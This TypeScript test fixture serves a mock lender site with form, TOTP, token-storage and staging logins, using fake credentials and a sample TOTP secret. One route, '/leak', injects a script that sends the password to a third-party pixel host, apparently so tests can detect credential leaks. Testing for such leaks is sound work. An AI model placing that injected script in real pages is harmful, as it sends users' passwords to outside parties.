// A site with a login of every kind: a form with a cookie, one that asks for a code, scripts that keep a token, and a closed staging host.
import { Secret, TOTP } from 'otpauth';
import { serveLoopback, type Answer, type Arrived, type Loopback, type Routes } from '../../support/loopback.ts';

export const USER = 'tester@mail.example';
export const PASSWORD = 'Kaki-7700-Nashi';
export const TOTP_SECRET = 'JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP';
export const HOST = 'https://www.lender.example';
export const PIXEL = 'https://collect.vendor.test';

export interface LoginSite extends Loopback {
  /** Ends every session. */
  readonly expire: () => void;
  /** From now on nobody gets in. */
  readonly lock: () => void;
  readonly logins: () => number;
}

const FORM = (code: string): string => `<!doctype html><title>login</title>
<form method="post" action="/session"><label>メール <input id="mail" name="mail"></label>
<label>パスワード <input id="password" name="password" type="password"></label>${code}<button id="go">ログイン</button></form>`;
const MEMBERS = (
  path: string,
  more = '',
): string => `<!doctype html><title>${path}</title><a id="logout" href="/logout">ログアウト</a>
<h1>会員 ${path}</h1><img src="${PIXEL}/px?at=${path}">${more}`;

/** `most` pages are shown in one session, then it ends. */
export async function serveLoginSite(most = Infinity): Promise<LoginSite> {
  const sessions = new Map<string, number>();
  const codes = new Set<string>();
  let logins = 0;
  let isLocked = false;

  function open(): string {
    logins += 1;
    const id = `s${logins}-${'0123456789abcdef'.repeat(2)}`;
    sessions.set(id, 0);
    return id;
  }
  const tokenOf = ({ headers }: Arrived): string =>
    /(?:^|; )sid=([^;]+)/.exec(headers.cookie ?? '')?.[1] ?? (headers.authorization ?? '').replace('Bearer ', '');
  function isOpen(arrived: Arrived): boolean {
    const token = tokenOf(arrived);
    const seen = sessions.get(token);
    if (seen === undefined || seen >= most) return false;
    sessions.set(token, seen + 1);
    return true;
  }
  const isRight = (form: URLSearchParams): boolean => !isLocked && form.get('mail') === USER && form.get('password') === PASSWORD;
  function isFresh(code: string): boolean {
    const right = new TOTP({ secret: Secret.fromBase32(TOTP_SECRET), period: 2 }).validate({ token: code, window: 2 }) !== null;
    if (!right || codes.has(code)) return false;
    codes.add(code);
    return true;
  }
  const redirect = (location: string, headers: Answer['headers'] = {}): Answer => ({
    status: 302,
    headers: { ...headers, location },
  });
  const enter = (arrived: Arrived, mayEnter: (form: URLSearchParams) => boolean, back: string): Answer => {
    const form = new URLSearchParams(arrived.body.toString());
    return mayEnter(form) ? redirect('/mypage', { 'set-cookie': `sid=${open()}; Path=/; HttpOnly; Secure` }) : redirect(back);
  };
  const members = (path: string, more?: string) => (arrived: Arrived) =>
    isOpen(arrived) ? { body: MEMBERS(path, more) } : redirect('/login');

  const routes: Routes = {
    'www.lender.example/': '<!doctype html><title>top</title><a href="/mypage">my page</a>',
    'www.lender.example/login': FORM(''),
    'www.lender.example/login-code': FORM('<input id="code" name="code">').replace('/session', '/session-code'),
    'www.lender.example/session': (arrived) => enter(arrived, isRight, '/login'),
    'www.lender.example/session-code': (arrived) =>
      enter(arrived, (form) => isRight(form) && isFresh(form.get('code') ?? ''), '/login-code'),
    'www.lender.example/mypage': members('mypage'),
    'www.lender.example/loan': members('loan', '<form><input id="amount"></form>'),
    'www.lender.example/a': members('a'),
    'www.lender.example/b': members('b'),
    'www.lender.example/c': members('c'),
    // A page that asks for more than a login.
    'www.lender.example/forbidden': redirect('/login'),
    'www.lender.example/status': (arrived) =>
      isOpen(arrived) ? { body: MEMBERS('status') } : { status: 401, body: 'who are you?' },
    'www.lender.example/leak': members(
      'leak',
      `<script>new Image().src = '${PIXEL}/px?p=' + encodeURIComponent('${PASSWORD}')</script>`,
    ),
    // Scripts that keep a token.
    'www.lender.example/app-login': `<!doctype html><title>app</title><input id="mail"><input id="password" type="password"><button id="go">in</button>
<script>go.onclick = async () => {
  const answer = await fetch('/api/session', { method: 'POST', body: new URLSearchParams({ mail: mail.value, password: password.value }) });
  if (!answer.ok) return;
  const kept = new URLSearchParams(location.search).get('kept') === 'tab' ? sessionStorage : localStorage;
  if (location.search.includes('database')) {
    const token = await answer.text();
    const opening = indexedDB.open('auth', 1);
    opening.onupgradeneeded = () => opening.result.createObjectStore('user');
    opening.onsuccess = () => {
      const writing = opening.result.transaction('user', 'readwrite');
      writing.objectStore('user').put(token, 'token');
      writing.oncomplete = () => location.assign('/app?kept=database');
    };
    return;
  }
  kept.setItem('token', await answer.text());
  location.assign('/app' + location.search);
};</script>`,
    'www.lender.example/api/session': ({ body }) =>
      isRight(new URLSearchParams(body.toString()))
        ? { body: open(), headers: { 'content-type': 'text/plain' } }
        : { status: 401 },
    'www.lender.example/api/me': (arrived) => (isOpen(arrived) ? { body: 'ok' } : { status: 401 }),
    'www.lender.example/app': `<!doctype html><title>app</title><main></main><script>
const fromDatabase = () => new Promise((resolve) => {
  const opening = indexedDB.open('auth', 1);
  opening.onupgradeneeded = () => opening.result.createObjectStore('user');
  opening.onsuccess = () => {
    const reading = opening.result.transaction('user').objectStore('user').get('token');
    reading.onsuccess = () => resolve(reading.result);
  };
});
(async () => {
  const token = location.search.includes('database') ? await fromDatabase() : (localStorage.getItem('token') ?? sessionStorage.getItem('token'));
  const answer = await fetch('/api/me', { headers: { authorization: 'Bearer ' + token } });
  if (answer.ok) document.querySelector('main').innerHTML = '<p id="hello">ようこそ</p><img src="${PIXEL}/px?at=app">';
  else location.assign('/app-login');
})();</script>`,
    // A staging host behind basic authentication.
    'staging.lender.example/': ({ headers }) =>
      headers.authorization === `Basic ${Buffer.from(`stage:${PASSWORD}`).toString('base64')}` &&
      headers['x-preview'] === 'preview-token-9f'
        ? { body: MEMBERS('staging', '<script>fetch("/data.json")</script>') }
        : { status: 401, headers: { 'www-authenticate': 'Basic realm="staging"' }, body: 'closed' },
    'staging.lender.example/data.json': ({ headers }) => (headers.authorization === undefined ? { status: 401 } : { body: '{}' }),
    'collect.vendor.test/px': { headers: { 'content-type': 'image/gif' }, body: '' },
  };
  const site = await serveLoopback(routes);
  return {
    ...site,
    expire: () => sessions.clear(),
    lock: () => {
      isLocked = true;
      sessions.clear();
    },
    logins: () => logins,
  };
}
